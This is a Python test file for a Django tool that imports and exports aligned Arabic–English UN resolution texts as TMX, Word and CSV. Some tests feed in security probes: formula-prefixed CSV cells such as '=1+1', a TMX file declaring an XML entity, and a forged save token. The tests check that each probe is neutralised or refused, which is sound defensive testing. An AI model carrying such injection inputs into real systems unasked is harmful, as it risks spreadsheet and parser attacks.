    def setUpTestData(cls) -> None:
        ar, en = demo_sides()
        cls.demo = resolution_import(
            ar_paragraphs=ar, en_paragraphs=en, meta=ResolutionMeta(slug="demo")
        )
        cls.editor = User.objects.create_user("edna", is_staff=True)
        cls.editor.groups.add(Group.objects.get(name="Editor"))

    def setUp(self) -> None:
        self.client.force_login(self.editor)

    def post(self, **data: object) -> object:
        fields = {"slug": "imported", "title_en": "Imported resolution", **data}
        return self.client.post(reverse("admin:corpus_resolution_import"), fields)

    def test_tmx_round_trip_through_preview_and_save(self) -> None:
        """Export the demo as TMX, upload it: the preview shows the alignment, saving stores a
        resolution with the same 42 + 42 paragraphs."""
        exported = self.client.get(reverse("review:export-tmx", kwargs={"slug": "demo"})).content
        preview = self.post(kind="tmx", file=upload("demo.tmx", exported))
        html = preview.content.decode()
        assert preview.status_code == 200 and "Preview: nothing is saved yet" in html
        assert "42 Arabic and 42 English paragraphs" in html
        assert not Resolution.objects.filter(slug="imported").exists()
        token = preview.context["token"]
        saved = self.post(kind="tmx", token=token, save="1")
        resolution = Resolution.objects.get(slug="imported")
        assert saved.status_code == 302 and saved["Location"].endswith(f"/{resolution.pk}/align/")
        ar, en = demo_sides()
        for lang, side in (("ar", ar), ("en", en)):
            stored = list(
                Paragraph.objects.of(resolution)
                .in_language(lang)
                .order_by("index")
                .values_list("text", flat=True)
            )
            assert stored == [" ".join(p.split()) for p in side]

    def test_word_pair_keeps_paragraphs_and_numbering(self) -> None:
        """Two .docx files: paragraph boundaries kept, Word list numbers written into the text."""
        ar, en = demo_sides()
        preview = self.post(
            kind="docx",
            file_ar=upload("ar.docx", word_file(ar[:8])),
            file_en=upload("en.docx", word_file(en[:8])),
        )
        assert "8 Arabic and 8 English paragraphs" in preview.content.decode()
        self.post(kind="docx", token=preview.context["token"], save="1")
        resolution = Resolution.objects.get(slug="imported")
        english = Paragraph.objects.of(resolution).in_language("en").order_by("index")
        assert english[0].text == en[0]
        assert english[3].text == "1. " + en[3] and english[4].text.startswith("2. ")
        arabic = Paragraph.objects.of(resolution).in_language("ar").order_by("index")
        # Word's "List Number" numbers "1." whatever the language, and the Arabic reads so.
        assert arabic[3].text == "1. " + ar[3]

    def test_word_two_column_table_as_both_files(self) -> None:
        """One .docx with an Arabic | English table, chosen as both files: the preview and the
        saved resolution have the Arabic column on one side and the English on the other."""
        ar, en = demo_sides()
        document = docx.Document()
        table = document.add_table(rows=4, cols=2)
        for row in range(4):
            table.cell(row, 0).text, table.cell(row, 1).text = ar[row + 2], en[row + 2]
        out = io.BytesIO()
        document.save(out)
        preview = self.post(
            kind="docx",
            file_ar=upload("t.docx", out.getvalue()),
            file_en=upload("t.docx", out.getvalue()),
        )
        assert "4 Arabic and 4 English paragraphs" in preview.content.decode()
        self.post(kind="docx", token=preview.context["token"], save="1")
        resolution = Resolution.objects.get(slug="imported")
        for lang, side in (("ar", ar), ("en", en)):
            stored = Paragraph.objects.of(resolution).in_language(lang).order_by("index")
            assert list(stored.values_list("text", flat=True)) == side[2:6]

    def test_bad_files_are_refused_clearly_and_change_nothing(self) -> None:
        ar, en = demo_sides()
        good_docx = word_file(en[:3])
        cases = [
            ("tmx", {"file": upload("x.tmx", b"\x89PNG\r\n\x1a\n\x00\x00")}, "not well-formed XML"),
            ("tmx", {"file": upload("x.tmx", b"<html><body/></html>")}, "not TMX"),
            (
                "tmx",
                {
                    "file": upload(
                        "x.tmx",
                        b'<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>Hi</seg></tuv></tu></body></tmx>',
                    )
                },
                "no Arabic segments",
            ),
            (
                "tmx",
                {
                    "file": upload(
                        "x.tmx", b'<?xml version="1.0"?><!DOCTYPE tmx [<!ENTITY a "aaaa">]><tmx/>'
                    )
                },
                "declares XML entities",
            ),
            (
                "docx",
                {
                    "file_ar": upload("a.docx", b"PK\x03\x04garbage"),
                    "file_en": upload("e.docx", good_docx),
                },
                "a.docx",
            ),
            (
                "docx",
                {
                    "file_ar": upload("a.doc", b"\xd0\xcf\x11\xe0 old word"),
                    "file_en": upload("e.docx", good_docx),
                },
                "not a Word .docx file",
            ),
            (
                "docx",
                {
                    "file_ar": upload("a.docx", word_file([])),
                    "file_en": upload("e.docx", good_docx),
                },
                "no text paragraphs",
            ),
            (
                "bilingual",
                {"file": upload("x.txt", "\n".join(en).encode())},
                "no Arabic paragraphs",
            ),
        ]
        before = (Resolution.objects.count(), Link.objects.count(), Paragraph.objects.count())
        for kind, files, message in cases:
            response = self.post(kind=kind, **files)
            assert response.status_code == 200, (kind, message)
            assert message in response.content.decode(), (kind, message)
            assert "Preview: nothing is saved yet" not in response.content.decode()
        assert (
            Resolution.objects.count(),
            Link.objects.count(),
            Paragraph.objects.count(),
        ) == before

    def test_save_without_a_preview_token_does_nothing(self) -> None:
        response = self.post(kind="tmx", token="forged", save="1")
        assert response.status_code == 200
        assert not Resolution.objects.filter(slug="imported").exists()


def test_csv_cells_starting_like_a_formula_are_neutralised_and_others_kept() -> None:
    """Tab and carriage return start a formula too (OWASP); a dash or equals sign inside a
    cell, Arabic text and numbers are left as they are."""
    assert csv_cell("\t=1+1") == "'\t=1+1"
    assert csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("يقرر - بالإجماع - أن") == "يقرر - بالإجماع - أن"
    assert csv_cell("Decides = adopts") == "Decides = adopts"
    assert csv_cell(0.8123) == "0.8123"


def test_read_tmx_from_another_tool() -> None:
    """A TMX written by another tool (inline tags, ar-SA/en-US codes) reads as units."""
    data = (
        '<?xml version="1.0" encoding="UTF-8"?><tmx version="1.4"><header srclang="en-US"/>'
        '<body><tu><tuv xml:lang="en-US"><seg>Recalling its resolution <ph>1</ph>ES-10/24</seg>'
        '</tuv><tuv xml:lang="ar-SA"><seg>إذ يشير إلى قراره دإ-10/24</seg></tuv></tu></body></tmx>'
    ).encode()
    (unit,) = read_tmx(data)
    assert unit.en == "Recalling its resolution ES-10/24"  # the <ph> holds a code, not text
    assert unit.ar == "إذ يشير إلى قراره دإ-10/24"


def test_read_docx_refuses_an_empty_file() -> None:
    try:
        read_docx(b"", "empty.docx")
    except InputError as error:
        assert str(error) == "empty.docx: file is empty."
    else:
        raise AssertionError("an empty file was accepted")


class ExportCommandTests(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        ar, en = demo_sides()
        resolution_import(ar_paragraphs=ar, en_paragraphs=en, meta=ResolutionMeta(slug="demo"))

    def test_tmx_from_the_command_line_warns_about_unconfirmed_links(self) -> None:
        from django.core.management import call_command

        out, err = io.StringIO(), io.StringIO()
        call_command("export_resolution", "demo", "--format", "tmx", stdout=out, stderr=err)
        store = tmxfile(io.BytesIO(out.getvalue().encode("utf-8")))
        assert len(store.units) == 42
        assert "42 unconfirmed" in err.getvalue()
        out = io.StringIO()
        call_command(
            "export_resolution", "demo", "--format", "tmx", "--source", "en", stdout=out, stderr=err
        )
        store = tmxfile(io.BytesIO(out.getvalue().encode("utf-8")))
        ar, en = demo_sides()
        assert store.getsourcelanguage() == "en"
        assert (store.units[0].source, store.units[0].target) == (en[0], ar[0])
        out = io.StringIO()
        call_command(
            "export_resolution",
            "demo",
            "--format",
            "csv",
            "--level",
            "clause",
            "--confirmed-only",
            stdout=out,
        )
        assert out.getvalue().splitlines() == [
            ",".join(
                f'"{column}"'  # every cell quoted (OWASP's advice against CSV injection)
                for column in [
                    "level",
                    "position",
                    "ar",
                    "en",
                    "score",
                    "status",
                    "flagged",
                    "note",
                    "ar_paragraphs",
                    "en_paragraphs",
                    "ar_paragraph_labels",
                    "en_paragraph_labels",
                    "findings",
                    "ar_paragraph_words",
                    "en_paragraph_words",
                ]
            )
        ]

    def test_locales_from_the_command_line_and_a_bad_one_refused(self) -> None:
        """--ar-locale ar-SA --en-locale en-US put those codes on srclang and every <tuv>,
        and the file imports again as the same paragraphs; a code of another language is
        refused with a one-line error and writes nothing."""
        out = io.StringIO()
        call_command(
            "export_resolution",
            "demo",
            "--format",
            "tmx",
            "--level",
            "paragraph",
            "--ar-locale",
            "ar-SA",
            "--en-locale",
            "en_us",
            stdout=out,
            stderr=io.StringIO(),
        )
        root = ET.fromstring(out.getvalue().encode())
        assert root.find("header").get("srclang") == "ar-SA"
        assert {tuv.get(XML_LANG) for tuv in root.iter("tuv")} == {"ar-SA", "en-US"}
        assert tmx_paragraphs(read_tmx(out.getvalue().encode())) == demo_sides()
        out = io.StringIO()
        with self.assertRaisesMessage(CommandError, "'fr-FR' is not an English language code"):
            call_command(
                "export_resolution", "demo", "--format", "tmx", "--en-locale", "fr-FR", stdout=out
            )
        assert out.getvalue() == ""

    def test_tmx_from_the_command_line_leaves_out_lone_clauses_and_says_so(self) -> None:
        """The command, like the page, leaves out the demo's 3 one-sided clause links and says
        so on stderr; --one-sided puts them back in."""
        from django.core.management import call_command

        out, err = io.StringIO(), io.StringIO()
        args = ("export_resolution", "demo", "--format", "tmx", "--level", "clause")
        call_command(*args, stdout=out, stderr=err)
        total = Link.objects.filter(resolution__slug="demo", level="clause").count()
        assert len(tmxfile(io.BytesIO(out.getvalue().encode())).units) == total - 3
        assert "3 links with no counterpart on one side are left out" in err.getvalue()
        out = io.StringIO()
        call_command(*args, "--one-sided", stdout=out, stderr=io.StringIO())
        assert len(tmxfile(io.BytesIO(out.getvalue().encode())).units) == total


class CsvFindingsTests(TestCase):
    """The CSV a translator checks in a spreadsheet says where the two sides disagree, as the
    review page does."""

    @classmethod
    def setUpTestData(cls) -> None:
        ar, en = demo_sides()
        en[15] = en[15].replace("3,400", "3,800")
        resolution_import(ar_paragraphs=ar, en_paragraphs=en, meta=ResolutionMeta(slug="demo"))

    def test_each_row_has_its_findings(self) -> None:
        response = self.client.get(
            reverse("review:export-csv", kwargs={"slug": "demo"}), {"level": "paragraph"}
        )
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert "3,800" in rows[15]["en"]
        assert rows[15]["findings"] == (
            "Number only in the Arabic: 3400 | Number only in the English: 3800"
        )
        assert [i for i, row in enumerate(rows) if row["findings"]] == [15]

    def test_the_tmx_carries_the_findings_as_a_comment_a_cat_tool_shows(self) -> None:
        """The unit whose sides disagree carries the findings as a <note> (the comment OmegaT
        and Trados show beside the match) and as an x-findings <prop>; flagged too, its flag's
        note stays as it was and comes last, the one note a tool that keeps one (OmegaT) keeps.
        The file stays valid TMX 1.4b, and imported again it gives the same paragraphs."""
        resolution = Resolution.objects.get(slug="demo")
        link = Link.objects.of(resolution).at("paragraph").order_by("position")[15]
        user = User.objects.create_user("rania")
        link_flag(
            resolution=resolution, link_id=link.pk, version=link.version, user=user, note="3,800?"
        )
        url = reverse("review:export-tmx", kwargs={"slug": "demo"})
        content = self.client.get(url, {"level": "paragraph"}).content
        dtd = etree.DTD(str(Path(__file__).with_name("tmx14.dtd")))
        root = etree.fromstring(content, etree.XMLParser(resolve_entities=False))
        assert dtd.validate(root), dtd.error_log.filter_from_errors()
        findings = "Number only in the Arabic: 3400 | Number only in the English: 3800"
        units = root.findall("body/tu")
        with_notes = {
            i: [n.text for n in tu.findall("note")]
            for i, tu in enumerate(units)
            if tu.find("note") is not None
        }
        assert with_notes == {
            15: [f"Checks between the sides: {findings}", "Flagged by a reviewer: 3,800?"]
        }
        props = [{p.get("type"): p.text for p in tu.findall("prop")} for tu in units]
        assert props[15]["x-findings"] == findings
        assert [i for i, p in enumerate(props) if "x-findings" in p] == [15]
        store = tmxfile(io.BytesIO(content))
        assert "3,800" in store.units[15].target
        assert store.units[15].getnotes().startswith(f"Checks between the sides: {findings}")
        ar, en = demo_sides()
        en[15] = en[15].replace("3,400", "3,800")
        assert tmx_paragraphs(read_tmx(content)) == (ar, en)

    def test_findings_are_said_from_what_is_stored_as_the_review_page_says_them(self) -> None:
        """The exports say a finding from its stored check, side and values, as the review page
        does: an omission stored with its message worded by older code, or with none, read in
        the CSV and the TMX as that old message or failed the export with an error (500); one
        stored by still older code, or not a finding at all, keeps its message, or a plain
        line, never an error."""
        resolution = Resolution.objects.get(slug="demo")
        link = Link.objects.of(resolution).at("paragraph").order_by("position")[15]
        clause = (
            "ويؤكد ضرورة العمل على إنهاء الاحتلال والاستيطان الاستعماري الإسرائيلي غير القانوني"
        )
        omission = {"check": "omission", "kind": "longer", "side": "ar", "times": 1.5}
        said = (
            "Text possibly missing from the English: the Arabic is 1.5 times as long as usual"
            f" for it; least matched Arabic clause: “{clause}”"
        )
        old = {"check": "number", "message": "Number only in the Arabic: 3400", "ar": ["3400"]}
        odd = "not a finding at all"
        csv_url = reverse("review:export-csv", kwargs={"slug": "demo"})
        tmx_url = reverse("review:export-tmx", kwargs={"slug": "demo"})
        for message in ({"message": f"Text possibly missing: “{clause}”"}, {}):
            stored = {**omission, **message, "ar": [clause], "en": []}
            Link.objects.filter(pk=link.pk).update(findings=[stored, old, odd])
            response = self.client.get(csv_url, {"level": "paragraph"})
            assert response.status_code == 200, message
            rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
            expected = f"{said} | Number only in the Arabic: 3400 | " + (
                "Possible difference between the sides"
            )
            assert rows[15]["findings"] == expected, message
            response = self.client.get(tmx_url, {"level": "paragraph"})
            assert response.status_code == 200, message
            tu = ET.fromstring(response.content).findall("body/tu")[15]
            assert [n.text for n in tu.findall("note")] == [f"Checks between the sides: {expected}"]
